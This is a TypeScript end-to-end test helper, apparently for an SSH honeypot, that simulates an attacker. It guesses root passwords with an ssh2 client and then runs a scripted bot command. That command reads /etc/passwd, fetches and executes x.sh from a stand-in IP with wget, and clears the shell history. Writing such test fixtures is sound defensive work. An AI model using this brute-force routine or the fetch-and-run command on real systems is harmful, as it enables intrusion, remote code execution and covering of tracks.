// The SSH "attacker" the end-to-end tests share: a real ssh2 client that tries passwords for root in
// order (the last is expected to work) and then runs one command line in an exec session.
import ssh2 from 'ssh2';
import type { PasswordAuthMethod } from 'ssh2';

export interface SshTarget {
  host: string;
  port?: number;
  /** Local address to connect from (a loopback address of its own, to be a distinct attacker). */
  from?: string;
}

/** The acceptance session's command line: discovery, a download, execution, history clearing. */
export const BOT_COMMAND = 'uname -a; cat /etc/passwd; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh; history -c';

/** Resolves when the session is closed; rejects if no password is accepted. */
export async function sshAttack(target: SshTarget, passwords: string[], command?: string): Promise<void> {
  const client = new ssh2.Client();
  const attempts: PasswordAuthMethod[] = passwords.map((password) => ({ type: 'password', username: 'root', password }));
  try {
    await new Promise<void>((resolve, reject) => {
      client.once('ready', () => resolve());
      client.once('error', reject);
      client.connect({ host: target.host, port: target.port ?? 22, localAddress: target.from, readyTimeout: 10_000, username: 'root', authHandler: attempts });
    });
    if (command) {
      await new Promise<void>((resolve, reject) => {
        client.exec(command, (err, stream) => {
          if (err) return reject(err);
          stream.on('data', () => {});
          stream.stderr.on('data', () => {});
          stream.on('close', () => resolve());
        });
      });
    }
  } finally {
    client.end();
  }
}
